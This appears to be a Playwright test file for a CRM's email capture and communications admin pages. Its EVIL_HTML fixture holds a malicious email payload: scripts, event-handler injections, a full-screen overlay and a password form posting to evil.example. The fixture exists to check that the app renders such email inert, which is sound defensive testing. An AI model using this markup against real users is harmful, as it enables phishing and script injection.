"""Communications and Email Capture (admin pages) in a real browser, with capture on against the
stand-in Google (tests/fakes/google.py): the activity panel's filters, detail pane and deep links; a
malicious HTML email rendered inert; proposed notes approved, edited, rejected, decided elsewhere,
read and answered with a Gmail draft; capture off in plain words; members kept out."""
import base64
from datetime import datetime, timedelta, timezone
from email import message_from_bytes

import pytest

from email_helpers import DOMAIN, add_investor, capture_config, mail
from fakes.google import COMPOSE, READONLY

from .browser_helpers import OUTPUT

ADMIN = f"admin@{DOMAIN}"
JANE = "Jane Doe <jane@acme.example>"
BOB = "Bob Roe <bob@beta.example>"
PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=")
TRACKER = "https://tracker.example/pixel.png?reader=admin"
EVIL_HTML = f"""<html><head><style>body {{ position: fixed; inset: 0; z-index: 2147483647; background: red; }}</style>
<script>window.top.document.title = "pwned"; window.top.pwned = 1;</script></head>
<body onload="window.top.document.title='pwned-onload'">
<div style="position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: red">OVERLAY TEXT</div>
<p>Dear Sam, the side letter is below.</p>
<img src="x" onerror="window.top.pwned = 2; window.top.document.title = 'pwned-onerror'">
<img src="{TRACKER}" alt="tracking pixel">
<form action="https://evil.example/steal" method="post"><input name="password"><button>Confirm your password</button></form>
<a href="javascript:window.top.pwned=3">Read more</a>
<svg onload="window.top.pwned = 4"><script>window.top.pwned = 5</script></svg>
<iframe src="https://evil.example/frame"></iframe>
</body></html>"""


def days_ago(n: float) -> datetime:
    return datetime.now(timezone.utc) - timedelta(days=n)


@pytest.fixture
def server(request, make_server, google, tmp_path):
    """The real server with Gmail capture on against the stand-in (param "off": capture switched off)."""
    if getattr(request, "param", "on") == "off":
        return make_server()
    key = tmp_path / "service-account.json"
    google.write_key_file(key)
    running = make_server(**capture_config(google, str(key)))
    running.app.email.backoff_base = 0.01
    return running


@pytest.fixture
def crm(server, admin, google):
    """Investors Acme LP (Jane) and Beta Capital (Bob); the admin's mailbox granted, drafts included, and enrolled."""
    admin.acme = add_investor(admin, "Acme LP", ("Jane Doe", "jane@acme.example"))
    admin.beta = add_investor(admin, "Beta Capital", ("Bob Roe", "bob@beta.example"))
    google.grant(ADMIN, [READONLY, COMPOSE])
    assert admin.post("/api/email/accounts/enroll-all").status_code == 200
    admin.account = next(a["id"] for a in admin.get("/api/email/accounts").json()["data"] if a["email"] == ADMIN)
    return admin


def sync(server, admin):
    run = server.app.email.sync(admin.account)
    assert run is not None and run["status"] == "ok", run


def open_signed_in(pages, admin, path, viewport=(1280, 800)):
    """A page signed in as `admin` (the token in sessionStorage, as the sign-in screen leaves it) at `path`."""
    page = pages.open("/login", viewport=viewport)
    page.evaluate("token => sessionStorage.setItem('crm.token', token)", admin.token)
    page.goto(path)
    return page


def rows(page):
    return page.locator(".comm-results tbody tr:not(.empty)")


def expect_noise(pages, text, count=None):
    """Refusals a test causes on purpose (Chromium logs each refused response): counted, then dropped."""
    noise = [p for p in pages.problems if text in p]
    if count is not None:
        assert len(noise) == count, pages.problems
    pages.problems[:] = [p for p in pages.problems if p not in noise]


def notes(admin, row_id):
    state = admin.get("/api/fundraising/state").json()["data"]
    column = next(c["id"] for c in state["grid"]["columns"] if c["key"] == "notes")
    return admin.get(f"/api/fundraising/rows/{row_id}").json()["data"]["cells"].get(column)


# -- Communications ------------------------------------------------------------------------------

def test_communications_filters_pages_opens_an_email_and_keeps_it_all_in_the_url(pages, server, crm, google):
    google.add_message(ADMIN, mail(JANE, ADMIN, "Signed subscription documents", "Attached, signed.\n\nJane", date=days_ago(3),
                                   attachments=[("subscription.pdf", b"%PDF-1.4 signed", "application/pdf")]))
    google.add_message(ADMIN, mail(ADMIN, BOB, "Fund II data room", "Bob, here is the data room link.", cc=[JANE], date=days_ago(2)))
    google.add_message(ADMIN, mail(BOB, ADMIN, "Re: Fund II data room", "Thanks, we will review.", date=days_ago(1)))
    for n in range(25):  # a second page of results
        google.add_message(ADMIN, mail(JANE, ADMIN, f"Quarterly update {n:02d}", "Numbers attached.", date=days_ago(10 + n)))
    sync(server, crm)

    page = open_signed_in(pages, crm, "/")
    page.get_by_role("link", name="Communications").click()
    page.wait_for_url("**/communications")
    page.get_by_role("heading", name="Communications").wait_for()
    page.get_by_text("1–25 of 28").wait_for()
    assert rows(page).count() == 25
    assert rows(page).first.locator("td").first.inner_text() == "Re: Fund II data room"  # newest first
    page.get_by_role("button", name="Next →").click()
    page.get_by_text("26–28 of 28").wait_for()
    assert "offset=25" in page.url

    # Filters: investor (the picker names each with its count), then direction; all of it in the URL.
    picker = page.get_by_label("Investor", exact=True)
    assert picker.locator("option").all_inner_texts() == ["All investors", "Acme LP (27)", "Beta Capital (2)"]
    picker.select_option(label="Beta Capital (2)")
    page.get_by_text("1–2 of 2").wait_for()
    assert f"investor_id={crm.beta}" in page.url and "offset" not in page.url
    page.get_by_label("Direction").select_option("outbound")
    page.get_by_text("1–1 of 1").wait_for()
    assert "direction=outbound" in page.url
    rows(page).first.get_by_role("link", name="Fund II data room").click()
    detail = page.locator(".comm-detail")
    detail.get_by_role("heading", name="Fund II data room").wait_for()
    assert detail.locator("dd[data-field='from']").inner_text() == "admin@fund.example"
    assert detail.locator("dd[data-field='to']").inner_text() == "Bob Roe <bob@beta.example>"
    assert detail.locator("dd[data-field='cc']").inner_text() == "Jane Doe <jane@acme.example>"
    assert detail.locator("dd[data-field='direction']").inner_text() == "Sent"
    assert detail.locator("dd[data-field='mailboxes']").inner_text() == ADMIN
    assert "data room link" in detail.locator(".email-text").inner_text()
    assert "email=" in page.url and "null" not in detail.inner_text()
    # Draft reply from the pane: an empty reply is refused beside the field, then the draft is linked.
    detail.get_by_role("button", name="Draft reply").click()
    detail.get_by_role("button", name="Create Gmail draft").click()
    detail.locator("#comm-reply-error").filter(has_text="must not be empty").wait_for()
    expect_noise(pages, "status of 422", 1)
    detail.get_by_label("Reply (reply-all, saved as a Gmail draft, not sent)").fill("Bob, the data room is open until Friday.")
    detail.get_by_role("button", name="Create Gmail draft").click()
    detail.get_by_role("link", name="Open the draft in Gmail").wait_for()
    [draft] = google.drafts
    assert draft["user"] == ADMIN and "bob@beta.example" in message_from_bytes(draft["raw"])["To"]

    # A deep link survives a reload: same filters, same list, same email.
    page.reload()
    page.locator(".comm-detail").get_by_role("heading", name="Fund II data room").wait_for()
    page.get_by_text("1–1 of 1").wait_for()
    assert page.get_by_label("Investor", exact=True).input_value() == crm.beta
    assert page.get_by_label("Direction").input_value() == "outbound"
    # Back closes the email opened from the list; the filters stay.
    page.go_back()
    page.get_by_text("Choose an email to read it here.").wait_for()
    assert "email=" not in page.url and "direction=outbound" in page.url

    # Words and dates: Jane's signed documents, with the attachment listed.
    page.get_by_role("button", name="Clear filters").click()
    page.get_by_text("1–25 of 28").wait_for()
    page.get_by_label("Search Captured email").fill("subscription")
    page.get_by_text("1–1 of 1").wait_for()
    assert "q=subscription" in page.url
    page.get_by_role("link", name="Signed subscription documents").click()
    attachments = page.locator(".email-attachments")
    attachments.get_by_text("subscription.pdf").wait_for()
    assert "application/pdf" in attachments.inner_text()
    page.get_by_label("Search Captured email").fill("")
    day = lambda d: d.astimezone().strftime("%Y-%m-%d")  # noqa: E731  (the reader's local day)
    page.get_by_label("From date").fill(day(days_ago(3)))
    page.get_by_label("To date (inclusive)").fill(day(days_ago(1)))
    page.get_by_text("1–3 of 3").wait_for()
    assert f"since={day(days_ago(3))}" in page.url
    page.screenshot(path=str(OUTPUT / "communications.png"))

    # A tablet: the list and the email stack, both in view.
    tablet = open_signed_in(pages, crm, page.url, viewport=(820, 1180))
    tablet.get_by_text("1–3 of 3").wait_for()
    tablet.locator(".comm-detail").get_by_role("heading", name="Signed subscription documents").wait_for()
    box = tablet.locator(".comm-detail").bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= 820
    tablet.screenshot(path=str(OUTPUT / "communications-tablet.png"))


def test_a_malicious_html_email_renders_inert_and_remote_images_wait_for_the_reader(pages, server, crm, google):
    google.add_message(ADMIN, mail(JANE, ADMIN, "Side letter (action needed)", "Dear Sam, the side letter is below.",
                                   html=EVIL_HTML, date=days_ago(1)))
    sync(server, crm)
    [email] = crm.get("/api/email/activity").json()["data"]

    page = open_signed_in(pages, crm, f"/communications?email={email['id']}")
    tracked = []
    page.on("request", lambda r: "tracker.example" in r.url and tracked.append(r.url))
    page.route("https://tracker.example/**", lambda route: route.fulfill(status=200, content_type="image/png", body=PIXEL))
    page.route("https://evil.example/**", lambda route: (tracked.append(route.request.url), route.abort()))
    frame_el = page.locator("iframe.email-frame")
    frame_el.wait_for()
    page.get_by_text("1 remote image blocked").wait_for()

    # The frame: sandboxed without scripts or our origin, its content given as srcdoc with its own policy.
    sandbox = frame_el.get_attribute("sandbox")
    assert "allow-scripts" not in sandbox and "allow-same-origin" not in sandbox
    srcdoc = frame_el.evaluate("f => f.srcdoc")
    assert srcdoc.startswith("<!doctype html><html><head><meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data: cid:;")
    assert "tracker.example" not in srcdoc
    body = page.frame_locator("iframe.email-frame").locator("body")
    body.get_by_text("the side letter is below").wait_for()
    assert body.locator("script, form, svg, iframe, [onerror], [onload], [style]").count() == 0
    page.wait_for_timeout(500)
    assert page.evaluate("() => [document.title, window.pwned === undefined]") == ["Communications · Venture CRM", True]
    assert tracked == []
    # The overlay stays inside its frame: the page around it is still there to click.
    frame_box = frame_el.bounding_box()
    assert frame_box["width"] < 1280 and frame_box["height"] < 800
    assert page.evaluate("() => document.elementFromPoint(10, 10).closest('.topbar, .sidebar') !== null")
    page.screenshot(path=str(OUTPUT / "communications-malicious.png"))

    # Only when the reader asks does the remote image load, still with no script.
    with page.expect_request(lambda r: "tracker.example" in r.url):
        page.get_by_role("button", name="Load images").click()
    assert tracked == [TRACKER]
    page.get_by_text("Remote images loaded.").wait_for()
    page.frame_locator("iframe.email-frame").locator("img[alt='tracking pixel']").wait_for()
    page.wait_for_timeout(300)
    assert page.evaluate("() => [document.title, window.pwned === undefined]") == ["Communications · Venture CRM", True]


# -- Email Capture ---------------------------------------------------------------------------------

def test_email_capture_approve_edit_reject_view_and_draft_a_reply(pages, server, crm, google):
    google.add_message(ADMIN, mail(JANE, ADMIN, "Re: Fund II close", "Hi Sam,\n\nThe signed subscription documents are attached.\n\nJane",
                                   date=days_ago(2), html="<p>Hi Sam,</p><p><b>The signed subscription documents</b> are attached.</p>"))
    google.add_message(ADMIN, mail(BOB, ADMIN, "Not now", "We will pass on Fund II for now.", date=days_ago(1)))
    sync(server, crm)
    proposals = {p["investor"]["name"]: p for p in crm.get("/api/email/proposals").json()["data"]}
    acme, beta = proposals["Acme LP"], proposals["Beta Capital"]

    page = open_signed_in(pages, crm, "/")
    page.get_by_role("link", name="Email Capture").click()
    page.wait_for_url("**/email-capture")
    page.get_by_text("1–2 of 2 waiting").wait_for()
    card_a = page.locator(f"article.proposal-card[data-id='{acme['id']}']")
    card_b = page.locator(f"article.proposal-card[data-id='{beta['id']}']")
    assert card_a.get_by_role("heading", name="Acme LP").is_visible()
    assert card_a.locator(".proposal-draft").inner_text() == acme["draft"]
    assert "Jane Doe <jane@acme.example>" in card_a.inner_text() and "Re: Fund II close" in card_a.inner_text()

    # View email: loaded only when opened; the HTML body in the sandboxed frame.
    detail_asked = []
    page.on("request", lambda r: "/api/email/detail/" in r.url and detail_asked.append(r.url))
    assert detail_asked == []
    card_a.get_by_role("button", name="View email").click()
    card_a.locator("dd[data-field='from']").get_by_text("Jane Doe <jane@acme.example>").wait_for()
    assert card_a.get_by_role("button", name="Hide email").get_attribute("aria-expanded") == "true"
    assert len(detail_asked) == 1
    frame = card_a.locator("iframe.email-frame")
    assert "allow-scripts" not in frame.get_attribute("sandbox")
    page.frame_locator(f"article[data-id='{acme['id']}'] iframe.email-frame").locator("b").get_by_text("The signed subscription documents").wait_for()
    page.screenshot(path=str(OUTPUT / "email-capture.png"))

    # Draft reply: a reply-all draft in the admin's own Gmail, linked.
    card_a.get_by_role("button", name="Draft reply").click()
    card_a.get_by_label("Reply (reply-all, saved as a Gmail draft, not sent)").fill("Thank you Jane, received.")
    card_a.get_by_role("button", name="Create Gmail draft").click()
    link = card_a.get_by_role("link", name="Open the draft in Gmail")
    link.wait_for()
    [draft] = google.drafts
    assert draft["user"] == ADMIN
    sent = message_from_bytes(draft["raw"])
    assert "jane@acme.example" in sent["To"] and sent["Subject"] == "Re: Fund II close"
    made = crm.get("/api/email/drafts").json()["data"]
    assert link.get_attribute("href") == made[0]["open_url"]

    # Approve: the card leaves and the note is in the investor's Notes in the grid.
    card_a.get_by_role("button", name="Approve", exact=True).click()
    page.get_by_text("Approved: the note is in Acme LP's Notes").wait_for()
    card_a.wait_for(state="detached")
    assert notes(crm, crm.acme) == acme["draft"]
    page.get_by_text("1–1 of 1 waiting").wait_for()

    # Edit-then-approve: the server's 422 beside the field, then the edited line.
    card_b.get_by_role("button", name="Edit…").focus()  # by keyboard: Enter opens the editor, focus moves into it
    page.keyboard.press("Enter")
    text = card_b.get_by_label("Note as it should read (one line)")
    assert text.evaluate("el => el === document.activeElement")
    assert text.input_value() == beta["draft"]
    text.fill("two\nlines")
    card_b.get_by_role("button", name="Approve edited note").click()
    error = card_b.locator(".field-error")
    error.filter(has_text="line").wait_for()
    assert text.get_attribute("aria-invalid") == "true"
    expect_noise(pages, "status of 422", 1)
    line = "Bob: passing on Fund II for now; revisit for Fund III"
    text.fill(line)
    card_b.get_by_role("button", name="Approve edited note").click()
    card_b.wait_for(state="detached")
    assert notes(crm, crm.beta) == line
    page.get_by_text("No proposed notes are waiting.").wait_for()

    # The grid shows the approved notes.
    page.get_by_role("link", name="Grid").click()
    page.locator("#grid .tabulator-cell", has_text=line).wait_for()


def test_an_agents_proposed_note_says_who_proposed_it_and_has_no_email_to_view_or_answer(pages, server, crm, google):
    google.add_message(ADMIN, mail(JANE, ADMIN, "Re: Fund II close", "The documents are attached.", date=days_ago(1)))
    sync(server, crm)
    agent = server.add_user(crm, "claude-agent", role="bot", password="bot password 12")
    r = agent.post("/api/email/proposals", {"investor_id": crm.beta, "draft": "Bob prefers a call after the AGM"},
                   headers={"X-CRM-Actor": "agent"})
    assert r.status_code == 201, r.text
    proposed = r.json()["data"]

    page = open_signed_in(pages, crm, "/email-capture")
    page.get_by_text("1–2 of 2 waiting").wait_for()
    card = page.locator(f"article.proposal-card[data-id='{proposed['id']}']")
    assert card.get_attribute("data-source") == "agent"
    assert card.get_by_role("heading", name="Beta Capital").is_visible()
    assert "Proposed by" in card.inner_text() and "claude-agent" in card.inner_text()
    assert card.locator(".proposal-draft").inner_text() == proposed["draft"]
    assert card.get_by_role("button", name="View email").count() == 0
    assert card.get_by_role("button", name="Draft reply").count() == 0
    emailed = page.locator("article.proposal-card[data-source='email']")
    assert emailed.get_by_role("button", name="View email").count() == 1  # the email's card keeps both
    card.get_by_role("button", name="Approve", exact=True).click()
    page.get_by_text("Approved: the note is in Beta Capital's Notes").wait_for()
    card.wait_for(state="detached")
    assert notes(crm, crm.beta) == proposed["draft"]


def test_cards_decided_elsewhere_leave_on_refresh_and_a_late_decision_says_who_decided(pages, server, crm, google):
    google.add_message(ADMIN, mail(JANE, ADMIN, "Fund II close", "We are in for 2m.", date=days_ago(2)))
    google.add_message(ADMIN, mail(BOB, ADMIN, "Coffee next week", "Happy to meet.", date=days_ago(1)))
    sync(server, crm)
    proposals = {p["investor"]["name"]: p for p in crm.get("/api/email/proposals").json()["data"]}
    acme, beta = proposals["Acme LP"], proposals["Beta Capital"]
    maria = server.add_user(crm, "maria", role="admin")

    page = pages.open("/login")
    page.clock.install()
    page.evaluate("token => sessionStorage.setItem('crm.token', token)", crm.token)
    page.goto("/email-capture")
    page.get_by_text("1–2 of 2 waiting").wait_for()
    card_a = page.locator(f"article.proposal-card[data-id='{acme['id']}']")
    card_b = page.locator(f"article.proposal-card[data-id='{beta['id']}']")

    # Maria rejects Bob's card elsewhere: it leaves with the next refresh (about 25 s).
    assert maria.post(f"/api/email/proposals/{beta['id']}/decide", {"action": "reject"}).status_code == 200
    page.clock.run_for(20_000)
    assert card_b.is_visible()
    page.clock.run_for(6_000)
    card_b.wait_for(state="detached")
    page.get_by_text("1–1 of 1 waiting").wait_for()
    # New mail is proposed meanwhile: its card arrives with the next refresh, on top.
    google.add_message(ADMIN, mail(BOB, ADMIN, "Revisiting Fund II", "We could do 1m after all.", date=days_ago(0.5)))
    sync(server, crm)
    page.clock.run_for(26_000)
    page.get_by_text("1–2 of 2 waiting").wait_for()
    assert page.locator("article.proposal-card h2").all_inner_texts() == ["Beta Capital", "Acme LP"]

    # Maria approves Jane's card first; approving here says who did.
    assert maria.post(f"/api/email/proposals/{acme['id']}/decide", {"action": "approve"}).status_code == 200
    card_a.get_by_role("button", name="Reject").click()
    card_a.get_by_text("Not changed: already approved by maria at").wait_for()
    assert all(b.is_disabled() for b in card_a.get_by_role("button", name="Approve", exact=True).all())
    expect_noise(pages, "status of 409", 1)
    assert crm.get("/api/email/proposals", params={"status": "rejected"}).json()["data"][0]["id"] == beta["id"]
    assert notes(crm, crm.acme) == acme["draft"]
    page.screenshot(path=str(OUTPUT / "email-capture-decided-elsewhere.png"))
    page.set_viewport_size({"width": 820, "height": 1180})
    box = card_a.bounding_box()
    assert box["x"] >= 0 and box["x"] + box["width"] <= 820
    page.screenshot(path=str(OUTPUT / "email-capture-tablet.png"))


# -- capture off, and members -----------------------------------------------------------------------

@pytest.mark.parametrize("server", ["off"], indirect=True)
def test_capture_off_is_said_in_plain_words_and_members_never_see_these_pages(pages, server, admin):
    page = open_signed_in(pages, admin, "/communications")
    page.get_by_text("Gmail capture is off:").wait_for()
    assert page.locator(".comm-results").count() == 0
    page.screenshot(path=str(OUTPUT / "communications-capture-off.png"))
    page.get_by_role("link", name="Email Capture").click()
    page.get_by_text("Gmail capture is off:").wait_for()
    assert page.locator(".proposal-card").count() == 0
    expect_noise(pages, "status of 503", count=0)  # not even asked: GET /api/features says capture is off

    member = server.add_user(admin, "maya")
    page = open_signed_in(pages, member, "/communications")
    page.wait_for_selector("#grid.tabulator")
    assert page.url.endswith("/")  # an admin page is not there for a member: the grid instead
    nav = page.locator(".sidebar nav").inner_text()
    assert "Communications" not in nav and "Email Capture" not in nav
    page.goto("/email-capture")
    page.wait_for_selector("#grid.tabulator")
    assert page.url.endswith("/")
    assert member.get("/api/email/proposals").status_code == 403  # and the server refuses



def test_email_capture_pages_its_cards_in_the_url(pages, server, crm, google):
    for n in range(22):
        google.add_message(ADMIN, mail(JANE, ADMIN, f"Update {n:02d}", f"Update number {n}.", date=days_ago(3 - n / 10)))
    sync(server, crm)
    assert crm.get("/api/email/proposals").json()["total"] == 22
    page = open_signed_in(pages, crm, "/email-capture")
    page.get_by_text("1–20 of 22 waiting").wait_for()
    assert page.locator("article.proposal-card").count() == 20
    page.get_by_role("button", name="Next →").click()
    page.get_by_text("21–22 of 22 waiting").wait_for()
    assert page.locator("article.proposal-card").count() == 2 and "offset=20" in page.url
    page.reload()
    page.get_by_text("21–22 of 22 waiting").wait_for()
    page.go_back()
    page.get_by_text("1–20 of 22 waiting").wait_for()
    assert page.get_by_role("button", name="← Previous").is_disabled()
